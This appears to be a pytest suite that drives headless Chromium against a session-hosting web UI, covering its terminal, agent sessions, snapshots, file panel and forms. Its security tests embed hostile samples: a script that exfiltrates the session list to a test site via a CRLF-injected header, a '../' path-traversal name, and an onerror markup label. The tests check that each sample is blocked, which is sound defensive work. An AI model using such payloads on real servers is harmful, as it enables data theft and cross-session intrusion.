"""The web UI in headless Chromium against a real `serve` with real containers: every screen,
a shell session typed into through xterm.js (colours, full-screen tools, resize), an agent
session streaming, snapshot and restore, relaunching an exited shell or (after asking) an agent,
and a dropped stream that waits out a transitional state before it reconnects. Screenshots land
in test-artifacts/serve-ui/.

Skips without chromium only when REPLOY_REQUIRE_DOCKER is unset; in CI it must run.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
from pathlib import Path
from typing import Any, Callable

import pytest

import reploy_serve
from cdp import Browser
from serve_harness import (  # noqa: F401  (fixtures)
    ROOT, LoopbackSite, ServeProcess, browser, log_in, managed_workload, serve_factory,
    seconds, session_containers, wait_until,
)
from standin_agent import StandInAgent, control_socket

pytestmark = pytest.mark.docker
ARTIFACTS = ROOT / "test-artifacts" / "serve-ui"
SCREEN_TEXT = """(() => { const b = window.reployTerminal && window.reployTerminal.buffer.active;
  if (!b) return ""; const lines = [];
  for (let i = 0; i < b.length; i++) lines.push(b.getLine(i).translateToString(true));
  return lines.join("\\n"); })()"""


def click(browser: Browser, selector: str) -> None:
    browser.wait_for(f"!!document.querySelector({json.dumps(selector)})", selector)
    browser.evaluate(f"document.querySelector({json.dumps(selector)}).click()")


def fill(browser: Browser, selector: str, value: str) -> None:
    browser.wait_for(f"!!document.querySelector({json.dumps(selector)})", selector)
    browser.evaluate(f"""(() => {{ const e = document.querySelector({json.dumps(selector)});
        e.value = {json.dumps(value)}; e.dispatchEvent(new Event("change")); }})()""")


def screen_has(browser: Browser, text: str, what: str) -> None:
    browser.wait_for(f"({SCREEN_TEXT}).includes({json.dumps(text)})", what)


def type_line(browser: Browser, line: str) -> None:
    browser.evaluate("window.reployTerminal.focus()")
    browser.type(line)
    browser.enter()


def create_in_ui(browser: Browser, url: str, name: str, workload_type: str) -> str:
    browser.navigate(url + "/#/new")
    fill(browser, "[data-test=name]", name)
    fill(browser, "[data-test=workload]", workload_type)
    browser.wait_for("document.querySelector('[data-test=deployment]').options.length > 0", "deployments")
    click(browser, "[data-test=create]")
    return browser.wait_for("(location.hash.match(/^#\\/s\\/([0-9a-f]{16})$/) || [])[1]", "the workspace")


def test_every_screen_in_chromium(serve_factory: Callable[..., ServeProcess], docker_engine: Any,
                                  browser: Browser) -> None:
    server = serve_factory("--models", '["model-a", "model-b"]')
    url = server.ready["url"]

    # Before logging in, the shell of the UI loads and says how to log in.
    browser.navigate(url + "/")
    browser.wait_for("!!document.querySelector('[data-test=login-screen]')", "the login note")
    assert "reploy serve" in browser.evaluate("document.body.textContent")
    browser.screenshot(ARTIFACTS / "0-login.png")
    log_in(browser, server)
    browser.wait_for("document.querySelector('.empty') !== null", "the empty sessions list")
    browser.screenshot(ARTIFACTS / "1-sessions-empty.png")

    # New session -> shell workspace with a real terminal.
    browser.navigate(url + "/#/new")
    fill(browser, "[data-test=name]", "ui-shell")
    browser.wait_for("document.querySelector('[data-test=deployment]').options.length > 0", "deployments")
    browser.screenshot(ARTIFACTS / "2-new-session.png")
    shell = create_in_ui(browser, url, "ui-shell", "shell")
    browser.wait_for("!!window.reployTerminal", "the terminal")
    screen_has(browser, "$ ", "the first prompt")
    type_line(browser, "echo typed-$((6*7))")
    screen_has(browser, "typed-42", "the command's output")
    # Colours reach xterm.js as SGR attributes (red = palette 1).
    type_line(browser, r"printf '\033[31mRED\033[0m\n'")
    assert browser.wait_for("""(() => { const b = window.reployTerminal.buffer.active;
        for (let i = 0; i < b.length; i++) { const l = b.getLine(i), t = l.translateToString(true);
          if (t === "RED") return "fg=" + l.getCell(0).getFgColor(); } return null; })()""",
                            "the coloured line") == "fg=1"
    # The PTY has the terminal's size (fit + resize through the API).
    size = browser.evaluate("[window.reployTerminal.cols, window.reployTerminal.rows]")
    status = server.api.call("GET", f"/sessions/{shell}/status")["agent"]
    assert [status["columns"], status["rows"]] == size and size != [80, 24]
    # A full-screen program draws with cursor movement; q quits it.
    type_line(browser, "top")
    screen_has(browser, "PID", "top's process table")
    browser.screenshot(ARTIFACTS / "3-shell-top.png")
    browser.type("q")
    type_line(browser, "vi /tmp/note")
    screen_has(browser, "/tmp/note", "vi's status line")
    browser.type("ihello from vi")
    screen_has(browser, "hello from vi", "the text typed into vi")
    browser.screenshot(ARTIFACTS / "4-shell-vi.png")
    browser.key("Escape", "Escape", 27, "\x1b")
    # Like a person, wait for command mode: ESC and ':' in one read would be an escape sequence.
    screen_has(browser, "- /tmp/note", "vi's command mode")
    browser.type(":wq")
    browser.enter()
    # Again like a person: type the next command once vi has gone (the shell is idle).
    wait_until(lambda: server.api.call("GET", f"/sessions/{shell}/status")["agent"]["turnState"]
               == "idle", "vi to exit")
    type_line(browser, "cat /tmp/note")
    screen_has(browser, "\nhello from vi", "the file vi wrote")
    browser.screenshot(ARTIFACTS / "5-shell-workspace.png")

    # Snapshot -> restore screen -> restore: the old output is back and typing goes on.
    click(browser, "[data-test=snapshot]")
    browser.wait_for("!!document.querySelector('[data-test=restore-screen]')", "the restore screen")
    assert not session_containers(docker_engine, server.state_dir, shell)
    browser.screenshot(ARTIFACTS / "6-restore.png")
    click(browser, "[data-test=restore]")
    screen_has(browser, "restored from checkpoint", "the restored session")
    screen_has(browser, "\nhello from vi", "output from before the snapshot")
    type_line(browser, "echo after-$((2+3))")
    screen_has(browser, "after-5", "typing after the restore")
    browser.screenshot(ARTIFACTS / "7-shell-restored.png")

    # An agent session: prompt, live stream, queue state.
    agent = create_in_ui(browser, url, "ui-agent", "claude-code")
    fill(browser, "[data-test=prompt]", "say streamed from the fake CLI")
    click(browser, "[data-test=send]")
    browser.wait_for("document.querySelector('[data-test=transcript]').textContent"
                     ".includes('streamed from the fake CLI')", "the streamed answer")
    browser.wait_for("document.querySelector('[data-test=queue]').textContent.includes('turn: idle')",
                     "the queue state")
    fill(browser, "[data-test=prompt]", "hang")
    click(browser, "[data-test=send]")
    browser.wait_for("document.querySelector('[data-test=queue]').textContent.includes('in_progress')",
                     "the run in progress")
    click(browser, "[data-test=interrupt]")
    browser.wait_for("document.querySelector('[data-test=transcript]').textContent"
                     ".includes('[reploy: interrupted]')", "the interrupt marker")
    browser.screenshot(ARTIFACTS / "8-agent.png")

    # The list shows both; delete asks for confirmation first.
    browser.navigate(url + "/#/")
    browser.wait_for("document.querySelectorAll('tr[data-session]').length === 2", "two sessions")
    browser.wait_for("document.querySelector('[data-test=countdown]').textContent.startsWith('idle in')",
                     "the idle countdown")
    browser.screenshot(ARTIFACTS / "9-sessions.png")
    click(browser, f"tr[data-session='{agent}'] [data-test=delete]")
    assert len(server.api.call("GET", "/sessions")["sessions"]) == 2  # not before confirming
    click(browser, f"tr[data-session='{agent}'] [data-test=confirm-delete]")
    browser.wait_for("document.querySelectorAll('tr[data-session]').length === 1", "the deletion")
    assert [s["id"] for s in server.api.call("GET", "/sessions")["sessions"]] == [shell]
    # The token appears nowhere the page can see: not in its DOM, its URL, its session history
    # (what the user typed, the login URL, stays in the browser's own record of typing) or its
    # cookies (the login cookie is HttpOnly).
    seen = browser.evaluate("[document.documentElement.outerHTML, location.href, document.cookie, "
                            "document.referrer, history.length]")
    entries = [e["url"] for e in browser.call("Page.getNavigationHistory")["entries"]]
    assert server.ready["token"] not in json.dumps([seen, entries])
    assert seen[2] == "" and not any("/login" in url for url in entries)


#: Counts, in the page, every stream opened and every GET of one session's record.
COUNT_STREAMS_AND_GETS = """
window.reployTest = { streams: 0, gets: 0 };
const nativeFetch = window.fetch;
window.fetch = (input, init) => {
  if (/\\/sessions\\/[0-9a-f]{16}\\/stream\\?/.test(String(input))) window.reployTest.streams++;
  if (/\\/sessions\\/[0-9a-f]{16}$/.test(String(input)) && (!init || (init.method || "GET") === "GET")) {
    window.reployTest.gets++;
  }
  return nativeFetch(input, init);
};
"""


def hold_snapshotting(state_dir: Path, sid: str) -> Callable[[], None]:
    """Takes the session's lease and moves it to snapshotting, exactly as another `serve` does
    at the start of a snapshot (the real store, its compare-and-swap and lease); returns the
    rollback that ends it back in active, as a failed snapshot does."""
    import socket
    import time

    import reploy_serve
    import reploy_watchdog

    store = reploy_serve.SessionStore(state_dir / "sessions.db")
    owner = f"{socket.gethostname()}/{reploy_watchdog.process_identity()}/ui-test"
    assert store.acquire(sid, owner, time.time())
    record = store.get(sid)
    held = store.save(record, reploy_serve.apply_session_event(record, reploy_serve.SessionEvent.CHECKPOINT, time.time(),
                                                         archive="checkpoint-held.tar"), owner, time.time())

    def roll_back() -> None:
        now = time.time()
        store.save(held, reploy_serve.apply_session_event(held, reploy_serve.SessionEvent.ROLLBACK, now, archive=None),
                   owner, now)
        store.release(sid, owner)
        store.close()
    return roll_back


def test_relaunch_and_stream_recovery_in_chromium(serve_factory: Callable[..., ServeProcess],
                                                 docker_engine: Any, browser: Browser) -> None:
    server = serve_factory("--sse-keepalive", "200ms")
    url = server.ready["url"]
    browser.call("Page.addScriptToEvaluateOnNewDocument", source=COUNT_STREAMS_AND_GETS)
    log_in(browser, server)

    # The list says what holds a session back from idling.
    busy = server.api.create("ui-busy")["id"]
    server.api.wait_output(busy, b"$ ")
    server.api.call("POST", f"/sessions/{busy}/message", {"text": "sleep 1000"})
    browser.navigate(url + "/#/")
    browser.wait_for(f"(document.querySelector(\"tr[data-session='{busy}'] [data-test=countdown]\") || {{}})"
                     ".textContent === 'held: busy'", "the busy session held")
    server.api.call("DELETE", f"/sessions/{busy}", expect=204)

    # A shell that exited: the workspace offers Relaunch, and typing works again after it.
    shell = create_in_ui(browser, url, "ui-exit", "shell")
    screen_has(browser, "$ ", "the first prompt")
    assert browser.evaluate("document.querySelector('[data-test=exited]').hidden") is True
    type_line(browser, "exit 3")
    browser.wait_for("!document.querySelector('[data-test=exited]').hidden", "the Relaunch offer")
    assert "status 3" in browser.evaluate("document.querySelector('[data-test=exited]').textContent")
    browser.screenshot(ARTIFACTS / "10-shell-exited.png")
    click(browser, "[data-test=relaunch]")
    screen_has(browser, "[reploy: shell relaunched]", "the relaunch marker")
    browser.wait_for("document.querySelector('[data-test=exited]').hidden", "the offer gone")
    type_line(browser, "echo again-$((3+4))")
    screen_has(browser, "again-7", "typing into the new shell")

    # The stream drops while another serve holds the session snapshotting: the UI waits, never
    # reconnecting, until the session is stable again; then it reconnects once.
    opened = browser.evaluate("window.reployTest.streams")
    port = server.ready["url"].rsplit(":", 1)[1]
    roll_back = hold_snapshotting(server.state_dir, shell)
    server.stop()
    again = serve_factory("--listen", f"127.0.0.1:{port}", state_dir=server.state_dir)
    browser.wait_for("document.querySelector('[data-test=statusline]').textContent"
                     ".includes('waiting for the session: snapshotting')", "the UI to wait")
    gets = browser.evaluate("window.reployTest.gets")
    browser.wait_for(f"window.reployTest.gets >= {gets + 4}", "four more looks at the session")
    assert browser.evaluate("window.reployTest.streams") == opened  # no reconnect meanwhile
    browser.screenshot(ARTIFACTS / "11-waiting.png")
    roll_back()
    browser.wait_for(f"window.reployTest.streams === {opened + 1}", "one reconnect once active")
    type_line(browser, "echo back-$((5+5))")
    screen_has(browser, "back-10", "typing after the reconnect")
    assert again.api.get(shell)["state"] == "active"

    # An agent session: Relaunch asks first, and forgets the conversation only when confirmed.
    agent = create_in_ui(browser, url, "ui-relaunch", "claude-code")
    fill(browser, "[data-test=prompt]", "say first answer")
    click(browser, "[data-test=send]")
    browser.wait_for("document.querySelector('[data-test=transcript]').textContent.includes('first answer')",
                     "the first answer")
    wait_until(lambda: again.api.call("GET", f"/sessions/{agent}/status")["agent"]["continue"], "continue")
    click(browser, "[data-test=relaunch]")
    browser.wait_for("!document.querySelector('[data-test=relaunch-confirmation]').hidden", "the question")
    browser.screenshot(ARTIFACTS / "12-agent-relaunch.png")
    click(browser, "[data-test=cancel-relaunch]")
    assert again.api.call("GET", f"/sessions/{agent}/status")["agent"]["continue"] is True  # nothing forgotten
    click(browser, "[data-test=relaunch]")
    click(browser, "[data-test=confirm-relaunch]")
    browser.wait_for("document.querySelector('[data-test=transcript]').textContent"
                     ".includes('[reploy: relaunched: the next prompt starts a new conversation]')",
                     "the relaunch marker")
    assert again.api.call("GET", f"/sessions/{agent}/status")["agent"]["continue"] is False


def test_files_panel_in_chromium(serve_factory: Callable[..., ServeProcess], docker_engine: Any,
                                 browser: Browser, tmp_path: Path) -> None:
    """Browse the workspace, download a file, upload by picking and by dropping files."""
    server = serve_factory()
    url, api = server.ready["url"], server.api
    sid = api.create("ui-files")["id"]
    made = api.call("POST", f"/sessions/{sid}/exec",
                    {"argv": ["sh", "-c", "mkdir -p src/deep && printf 'hello from the workspace\\n' > src/hello.txt"]})
    assert made["exitCode"] == 0
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    browser.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(downloads))
    log_in(browser, server)
    browser.navigate(f"{url}/#/s/{sid}")
    browser.wait_for("!!window.reployTerminal", "the terminal")
    click(browser, "[data-test=files] summary")
    browser.wait_for("!!document.querySelector('[data-entry=src] [data-test=files-dir]')", "the src folder")
    click(browser, "[data-entry=src] [data-test=files-dir]")
    browser.wait_for("document.querySelector('[data-test=files-path]').textContent === 'workspace / src'",
                     "the src breadcrumbs")
    browser.wait_for("!!document.querySelector('[data-entry=\"hello.txt\"] [data-test=files-file]')", "hello.txt")
    row = browser.evaluate("document.querySelector('[data-entry=\"hello.txt\"]').textContent")
    assert "25 B" in row and "0644" in row
    browser.screenshot(ARTIFACTS / "10-files-panel.png")

    # Download: the link is a real download of the file's bytes.
    click(browser, "[data-entry=\"hello.txt\"] [data-test=files-file]")
    saved = downloads / "hello.txt"
    wait_until(lambda: saved.exists() and saved.read_bytes() == b"hello from the workspace\n", "the download")

    # Upload by picking a file: the real file chooser input, given a host file.
    picked = tmp_path / "picked.bin"
    picked.write_bytes(os.urandom(300_000))
    document = browser.call("DOM.getDocument")["root"]["nodeId"]
    node = browser.call("DOM.querySelector", nodeId=document, selector="[data-test=files-picker]")["nodeId"]
    browser.call("DOM.setFileInputFiles", files=[str(picked)], nodeId=node)
    browser.wait_for("!!document.querySelector('[data-entry=\"picked.bin\"]')", "the picked file listed")
    digest = api.call("POST", f"/sessions/{sid}/exec", {"argv": ["sha256sum", "src/picked.bin"]})["stdout"]
    assert digest.split()[0] == hashlib.sha256(picked.read_bytes()).hexdigest()

    # Upload by dropping files onto the panel, as a drag from the desktop delivers them.
    browser.evaluate("""(() => { const data = new DataTransfer();
        data.items.add(new File(["dropped one\\n"], "dropped-1.txt"));
        data.items.add(new File(["dropped two\\n"], "dropped-2.txt"));
        const zone = document.querySelector("[data-test=files-drop]");
        zone.dispatchEvent(new DragEvent("dragover", { dataTransfer: data, bubbles: true, cancelable: true }));
        zone.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true })); })()""")
    browser.wait_for("document.querySelector('[data-test=files-status]').textContent"
                     ".includes('uploaded dropped-1.txt, dropped-2.txt')", "the dropped files uploaded")
    assert browser.evaluate("!!document.querySelector('[data-entry=\"dropped-2.txt\"]')")
    listed = api.call("POST", f"/sessions/{sid}/exec", {"argv": ["sh", "-c", "cat src/dropped-*.txt"]})
    assert listed["stdout"] == "dropped one\ndropped two\n"
    browser.screenshot(ARTIFACTS / "11-files-uploaded.png")

    # Up again, and the home root.
    click(browser, "[data-test=files-up]")
    browser.wait_for("document.querySelector('[data-test=files-path]').textContent === 'workspace'", "the root")
    fill(browser, "[data-test=files-root]", "home")
    browser.wait_for("document.querySelector('[data-test=files-entries]').textContent.includes('Empty folder.')",
                     "the empty home")


# -- issue 21: what a session prints or names cannot act in the UI's origin --------------------

#: The bounding box centre of the last on-screen occurrence of a text in the terminal (xterm.js's
#: DOM renderer), for a real mouse click there.
TEXT_CENTRE = """((needle) => { const rows = document.querySelector('.xterm-rows'); if (!rows) return null;
  const walker = document.createTreeWalker(rows, NodeFilter.SHOW_TEXT); let found = null;
  while (walker.nextNode()) { const node = walker.currentNode, at = node.textContent.indexOf(needle);
    if (at >= 0 && !node.textContent.includes('printf')) found = [node, at]; }
  if (!found) return null; const range = document.createRange();
  range.setStart(found[0], found[1]); range.setEnd(found[0], found[1] + needle.length);
  const box = range.getBoundingClientRect(); return [box.x + box.width / 2, box.y + box.height / 2]; })"""

#: Records what the page asks (confirm) and opens (window.open), answering as a user who says
#: yes to everything: the worst case.
RECORD_DIALOGS = """window.reployAsked = []; window.reployOpened = [];
window.confirm = (text) => { window.reployAsked.push(text); return true; };
window.open = (...args) => { window.reployOpened.push(args); return null; };"""


def click_text(browser: Browser, text: str) -> None:
    """Moves the mouse onto `text` on the terminal's screen (from outside the terminal: xterm.js
    finds a link as the pointer enters it) and clicks it."""
    x, y = browser.wait_for(f"({TEXT_CENTRE})({json.dumps(text)})", f"{text!r} on the screen")
    browser.call("Input.dispatchMouseEvent", type="mouseMoved", x=1, y=1)  # from outside, as a hand does
    for kind in ("mouseMoved", "mouseMoved", "mousePressed", "mouseReleased"):
        browser.call("Input.dispatchMouseEvent", type=kind, x=x, y=y, clickCount=1,
                     button="none" if kind == "mouseMoved" else "left")


def test_a_link_the_session_prints_never_opens_this_server(
        serve_factory: Callable[..., ServeProcess], docker_engine: Any, browser: Browser) -> None:
    """Attack 1 in the browser: the workload prints an OSC 8 hyperlink to a download of its own
    (whose agent, the stand-in here, answers with a page smuggled into a header) and the user
    clicks it; or the user pastes that URL. The terminal refuses links to this server; a pasted
    URL carries no credential, and even with one the answer is a sandboxed JSON error: the
    page's script never runs and nothing reaches the hostile site."""
    server = serve_factory()
    url, api = server.ready["url"], server.api
    sid = api.create("printer")["id"]
    api.wait_output(sid, b"$ ")
    with LoopbackSite() as site:
        script = ("<script>fetch('/api/v1/sessions').then(r => r.text()).then(t => {"
                  f"new Image().src = {json.dumps(site.url)} + '/exfil?' + encodeURIComponent(t);"
                  "document.title = 'pwned'; })</script>")
        stand = StandInAgent(control_socket(server.state_dir, sid))
        try:
            stand.answers["download"] = {"transfer_id": "ab" * 8, "kind": "file",
                                         "size": f"{len(script)}\r\nContent-Type: text/html\r\n\r\n{script}",
                                         "entry": {"name": "report.html", "type": "file", "size": 1,
                                                   "mode": 420, "mtime": 0}}
            own = f"{url}/api/v1/sessions/{sid}/files/report.html"
            elsewhere = site.publish("/landing", "text/html", b"<title>landing</title>")
            printed = "".join(f"\\033]8;;{link}\\033\\\\{label}\\033]8;;\\033\\\\ " for link, label in (
                (own, "own-link"), (own.replace("127.0.0.1", "localhost"), "alias-link"),
                (elsewhere, "other-link")))
            api.write(sid, f"printf '{printed}\\n%s\\n' '{own}'\r".encode())
            api.wait_output(sid, b"other-link")
            log_in(browser, server)
            browser.navigate(f"{url}/#/s/{sid}")
            browser.wait_for("!!window.reployTerminal", "the terminal")
            browser.evaluate(RECORD_DIALOGS)

            for label in ("own-link", "alias-link"):
                click_text(browser, label)
                browser.wait_for("document.querySelector('[data-test=statusline]').textContent"
                                 ".includes('refused a link')", f"the {label} refused")
                browser.evaluate("document.querySelector('[data-test=statusline]').textContent = ''")
            click_text(browser, own[-30:])  # the plain URL: the terminal makes no link of it
            click_text(browser, "other-link")
            opened = browser.wait_for("window.reployOpened.length && window.reployOpened", "the other link")
            assert opened == [[elsewhere, "_blank", "noopener,noreferrer"]]
            assert len(browser.evaluate("window.reployAsked")) == 1  # asked for it, and only it
            assert stand.count("download") == 0

            # Pasted into the address bar: no credential goes along.
            browser.call("Network.enable")
            browser.navigate(own)
            browser.wait_for("document.readyState === 'complete'", "the pasted URL")
            assert '"error"' in browser.evaluate("document.body.textContent")
            # Even with the credential (the worst case): serve refuses the answer, and its error
            # is sandboxed JSON.
            browser.call("Network.setExtraHTTPHeaders", headers={"Authorization": f"Bearer {server.ready['token']}"})
            browser.navigate(own)
            browser.wait_for("document.readyState === 'complete' && document.body.textContent.includes('error')",
                             "the refused download")
            browser.call("Network.setExtraHTTPHeaders", headers={})
            answers = [e["params"] for e in browser.events if e["method"] == "Network.responseReceived"
                       and e["params"]["response"]["url"] == own]
            assert [a["response"]["status"] for a in answers] == [401, 502]
            for response in (a["response"] for a in answers):
                headers = {k.lower(): v for k, v in response["headers"].items()}
                assert headers["content-type"] == "application/json"
                assert headers["content-security-policy"] == "default-src 'none'; sandbox"
            assert stand.count("download") == 1
            assert browser.evaluate("document.title") != "pwned"
            assert site.requests == []  # no exfiltration, and the other link was never really opened
        finally:
            stand.close()


def test_a_name_from_the_session_never_leads_the_files_panel_elsewhere(
        serve_factory: Callable[..., ServeProcess], docker_engine: Any, browser: Browser) -> None:
    """Attack 2: the session lists an entry named `../../OTHER/files/drop`; the Files panel
    built an upload URL from it and the browser resolved the `..` into another session. serve
    refuses such a listing (502); and the panel, given one anyway, shows the name as refused,
    builds no URL from it, and its uploads stay in the folder shown."""
    server = serve_factory()
    url, api = server.ready["url"], server.api
    sid = api.create("lister")["id"]
    other = api.create("other")["id"]
    assert api.call("POST", f"/sessions/{other}/exec", {"argv": ["mkdir", "drop"]})["exitCode"] == 0
    evil = f"../../{other}/files/drop"
    stand = StandInAgent(control_socket(server.state_dir, sid))
    try:
        stand.answers["list"] = lambda r: {
            "root": "workspace", "path": ".", "total": 1, "next_offset": 1,
            "entry": {"name": ".", "type": "directory", "size": 0, "mode": 0o755, "mtime": 0},
            "entries": [{"name": evil, "type": "directory", "size": 0, "mode": 0o755, "mtime": 0}]}
        log_in(browser, server)
        browser.navigate(f"{url}/#/s/{sid}")
        browser.wait_for("!!window.reployTerminal", "the terminal")
        click(browser, "[data-test=files] summary")
        browser.wait_for("document.querySelector('[data-test=files-status]').textContent"
                         ".includes('one path component')", "the refused listing")
        assert not browser.evaluate("document.querySelectorAll('[data-test=files-dir]').length")
        stand.answers.clear()

        # The panel's own check, for a listing that got through anyway.
        for name in ("..", ".", "a/b", "a\nb", "\x7f", evil):
            assert browser.evaluate(f"isEntryName({json.dumps(name)})") is False, name
        for path in ("x/..", "./x", "x/a\nb", evil):  # a path: every component one name
            thrown = browser.evaluate(f"(() => {{ try {{ encodePath({json.dumps(path)}); return null; }}"
                                      " catch (e) { return e.message; } })()")
            assert thrown and "refused" in thrown, path
        assert browser.evaluate("encodePath('a b/%2e%2e/c#?')") == "a%20b/%252e%252e/c%23%3F"
        browser.evaluate("""(() => { const native = window.fetch;
            window.fetch = async (input, init) => String(input).includes("/list/")
              ? new Response(JSON.stringify({ root: "workspace", path: "", truncated: false,
                  entry: { name: ".", type: "directory", size: 0, mode: 493, mtime: 0 },
                  entries: [{ name: EVIL, type: "directory", size: 0, mode: 493, mtime: 0 }] }),
                  { headers: { "Content-Type": "application/json" } })
              : native(input, init); })()""".replace("EVIL", json.dumps(evil)))
        click(browser, "[data-test=files-refresh]")
        browser.wait_for("document.querySelector('[data-test=files-entries]').textContent.includes('refused name')",
                         "the name shown as refused")
        assert not browser.evaluate("document.querySelectorAll('[data-test=files-dir], [data-test=files-file]').length")
        browser.evaluate("""(() => { const data = new DataTransfer();
            data.items.add(new File(["dropped by the files panel\\n"], "planted.txt"));
            document.querySelector("[data-test=files-drop]").dispatchEvent(
              new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true })); })()""")
        browser.wait_for("document.querySelector('[data-test=files-status]').textContent.includes('uploaded planted.txt')",
                         "the upload into the folder shown")
    finally:
        stand.close()
    mine = api.call("POST", f"/sessions/{sid}/exec", {"argv": ["cat", "planted.txt"]})
    theirs = api.call("POST", f"/sessions/{other}/exec", {"argv": ["ls", "-A", "drop"]})
    assert mine["stdout"] == "dropped by the files panel\n"
    assert (theirs["exitCode"], theirs["stdout"]) == (0, "")


def test_the_last_failure_shows_in_the_list_and_on_the_restore_screen(
        serve_factory: Callable[..., ServeProcess], docker_engine: Any, browser: Browser) -> None:
    """Issue 26: a failed restore (its archive spoilt from outside) says why in the UI, as the
    API's lastFailure does, and the restore screen still offers to try again."""
    server = serve_factory()
    url, api = server.ready["url"], server.api
    sid = api.create("ui-failed")["id"]
    api.wait_output(sid, b"$ ")
    snapshot = api.call("POST", f"/sessions/{sid}/snapshot", {})
    (server.state_dir / "sessions" / sid / "agent" / snapshot["checkpoint"]["ref"]).write_bytes(b"not a tar")
    status, _ = api.raw("POST", f"/api/v1/sessions/{sid}/switch", b"{}")
    assert status >= 500
    log_in(browser, server)
    browser.navigate(url + "/#/")
    note = f"document.querySelector(\"tr[data-session='{sid}'] [data-test=last-failure]\")"
    browser.wait_for(f"!!{note} && {note}.textContent === 'restore failed'", "the failure in the list")
    browser.navigate(f"{url}/#/s/{sid}")
    note = "document.querySelector('[data-test=restore-screen] [data-test=last-failure]')"
    browser.wait_for(f"!!{note}", "the failure on the restore screen")
    text = browser.evaluate(f"{note}.textContent")
    assert text.startswith("restore failed: ") and "cannot restore" in text, text
    assert browser.evaluate("!!document.querySelector('[data-test=restore]')")
    browser.screenshot(ARTIFACTS / "10-last-failure.png")


# -- issue 46: a session's id, labels, TTL, CPU and disk; the create form; delete on its page ---

#: The page's form validation knows the API's label and TTL rules: they must be the server's.
FORM_RULES = "[LABEL_KEY_PATTERN, LABEL_VALUE_PATTERN, MAX_LABELS, MAX_TTL_SECONDS]"

#: Answers every session record or list (a GET, a switch) as the server does, with one more
#: label whose value is markup (the API refuses such a value: this stands for any record that held one).
HOSTILE_LABEL = """(() => { const native = window.fetch;
  window.fetch = async (input, init) => {
    const response = await native(input, init);
    if (!/\\/sessions(\\/[0-9a-f]{16}(\\/switch)?)?$/.test(String(input)) || response.status !== 200) return response;
    const doc = await response.json();
    for (const s of doc.sessions || [doc]) s.labels.note = MARKUP;
    return new Response(JSON.stringify(doc), { status: response.status, headers: response.headers }); }; })()"""
MARKUP = "<img src=x onerror=\"window.reployPwned=1\"><b>bold</b>"


def visible(browser: Browser, selector: str) -> bool:
    return bool(browser.evaluate(f"!!document.querySelector({json.dumps(selector)}).offsetParent"))


def text_of(browser: Browser, selector: str) -> str:
    return str(browser.evaluate(f"document.querySelector({json.dumps(selector)}).textContent"))


def test_session_facts_the_create_form_and_delete_in_chromium(
        serve_factory: Callable[..., ServeProcess], docker_engine: Any, browser: Browser) -> None:
    """Issue 46: the form takes labels, TTL, CPU and disk (model only for claude-code), checks
    them as the API does and shows the API's refusal; the list and the session page show the
    id, labels (as text, whatever they hold), TTL, CPU and disk; Delete there asks, deletes and
    goes back to the list."""
    server = serve_factory()
    url, api = server.ready["url"], server.api
    log_in(browser, server)
    assert browser.evaluate(FORM_RULES) == [reploy_serve._LABEL_KEY.pattern, reploy_serve._LABEL_VALUE.pattern,
                                            reploy_serve.MAX_LABELS, reploy_serve.MAX_TTL_S]
    # The command line's durations (reploy.parse_duration_ms), in whole seconds.
    assert browser.evaluate("['90s', '30m', '1h', '1.5h', '2000ms'].map(parseDuration)") == [90, 1800, 3600, 5400, 2]
    assert browser.evaluate("['90', '2h30m', '1500ms', '1 h', ''].map(t => { try { parseDuration(t); "
                            "return 'taken'; } catch (e) { return 'refused'; } })") == ["refused"] * 5
    assert browser.evaluate("parseLabels(' team=red,task=a=b , ')") == {"team": "red", "task": "a=b"}

    # The model field only for claude-code.
    browser.navigate(url + "/#/new")
    browser.wait_for("document.querySelector('[data-test=deployment]')?.options.length > 0", "deployments")
    assert not visible(browser, "[data-test=model]")
    fill(browser, "[data-test=workload]", "claude-code")
    assert visible(browser, "[data-test=model]")
    browser.screenshot(ARTIFACTS / "12-new-session-claude-code.png")
    fill(browser, "[data-test=workload]", "shell")
    assert not visible(browser, "[data-test=model]")

    # What the API would refuse is refused in the form, as text; what only the server knows
    # (its CPU bound) comes back as the API's own error. Nothing is created.
    fill(browser, "[data-test=name]", "ui-facts")
    fill(browser, "[data-test=labels]", f"team={MARKUP}")
    click(browser, "[data-test=create]")
    browser.wait_for("document.querySelector('[data-test=error]').textContent.startsWith('labels.team: ')",
                     "the form's refusal")
    assert json.dumps(MARKUP) in text_of(browser, "[data-test=error]")  # as text
    fill(browser, "[data-test=labels]", "team=red,task=a")
    fill(browser, "[data-test=cpus]", "999")
    click(browser, "[data-test=create]")
    browser.wait_for("document.querySelector('[data-test=error]').textContent.startsWith('cpus: must be at most')",
                     "the API's refusal")
    assert api.call("GET", "/sessions")["sessions"] == []

    fill(browser, "[data-test=ttl]", "1h")
    fill(browser, "[data-test=cpus]", "0.5")
    fill(browser, "[data-test=disk]", "128")
    browser.screenshot(ARTIFACTS / "13-new-session-filled.png")
    click(browser, "[data-test=create]")
    sid = browser.wait_for("(location.hash.match(/^#\\/s\\/([0-9a-f]{16})$/) || [])[1]", "the workspace")
    session = api.get(sid)
    assert (session["labels"], session["cpus"], session["diskMib"]) == ({"team": "red", "task": "a"}, 0.5, 128)
    assert seconds(session["expiresAt"]) - seconds(session["createdAt"]) == pytest.approx(3600, abs=1e-3)
    assert "model" not in session

    # The session page: the full id, the labels, the time left, CPU and disk.
    browser.wait_for("!!window.reployTerminal", "the terminal")
    assert text_of(browser, "[data-test=session-id]") == sid
    chips = browser.evaluate("[...document.querySelectorAll('[data-test=facts] .chip')].map((c) => c.textContent)")
    assert chips == ["task=a", "team=red"]
    ttl = text_of(browser, "[data-test=facts] [data-test=ttl]")
    assert ttl == "expires in 1 h" or re.fullmatch(r"expires in 5\d min", ttl), ttl
    assert text_of(browser, "[data-test=facts] [data-test=cpus]") == "0.5 CPU"
    assert text_of(browser, "[data-test=facts] [data-test=disk]") == "128 MiB"
    browser.screenshot(ARTIFACTS / "14-session-facts.png")

    # The list: the short id with the full one in its title, and the same facts.
    other = api.create("ui-plain")["id"]
    browser.navigate(url + "/#/")
    row = f"tr[data-session='{sid}']"
    browser.wait_for(f"!!document.querySelector(\"{row} .chip\")", "the row's labels")
    assert browser.evaluate(f"document.querySelector(\"{row} [data-test=short-id]\").title") == sid
    assert sid.startswith(text_of(browser, f"{row} [data-test=short-id]"))
